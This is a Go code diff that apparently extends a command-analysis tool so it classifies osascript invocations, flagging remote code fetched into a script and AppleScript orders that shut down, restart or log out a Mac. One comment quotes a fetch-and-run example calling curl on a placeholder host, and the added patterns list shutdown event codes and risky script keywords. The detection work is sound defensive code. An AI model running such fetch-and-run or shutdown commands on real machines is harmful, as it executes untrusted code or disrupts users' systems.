@@ -13,6 +13,13 @@ import (
 // RunsAppleScript is osascript with a text, a file or its input.
 func RunsAppleScript(a *invocation.Act, in *command.Reading) {
 	scripts := in.Values("script")
+	if len(scripts) > 0 && strings.HasPrefix(scripts[0], "$(") { // -e "$(curl -s https://x.example)"
+		for i := range a.Words() {
+			if w := &a.Words()[i]; w.Remote != "" {
+				a.Does(effect.RunRemote, w.Remote)
+			}
+		}
+	}
 	if len(scripts) == 0 {
 		file := in.Value("file")
 		if file != "" && file != "-" {
@@ -57,10 +64,34 @@ func appleScript(a *invocation.Act, script string) {
 	if strings.Contains(script, "make") && strings.Contains(script, "login item") {
 		follow.Persists(a, "login item")
 	}
+	if stopsMachine(script) {
+		a.Does(effect.Shutdown, "machine")
+	}
 	for _, word := range []string{"delete", "empty", "keystroke", "key code", "ObjC", "run script", "load script", "send", "quit", "shut down", "restart", "the clipboard"} {
 		if strings.Contains(script, word) {
 			a.Doubt(invocation.Dialect)
 			return
 		}
 	}
+}
+
+// stopsMachine reports whether a script tells the programs that can stop the machine to do
+// it, by name or by the codes of the events.
+func stopsMachine(script string) bool {
+	script = strings.ToLower(script)
+	if strings.Contains(script, "event aevtrsdn") || strings.Contains(script, "event aevtrrst") || strings.Contains(script, "event aevtshut") || strings.Contains(script, "event aevtrest") {
+		return true
+	}
+	if !strings.Contains(script, "system events") && !strings.Contains(script, "finder") && !strings.Contains(script, "loginwindow") {
+		return false
+	}
+	for line := range strings.FieldsFuncSeq(script, func(c rune) bool { return c == '\n' || c == ';' }) {
+		line = strings.TrimRight(line, " \t")
+		for _, order := range []string{"shut down", "restart", "log out", "sleep"} {
+			if strings.HasSuffix(line, " to "+order) || strings.TrimLeft(line, " \t") == order {
+				return true
+			}
+		}
+	}
+	return false
 }
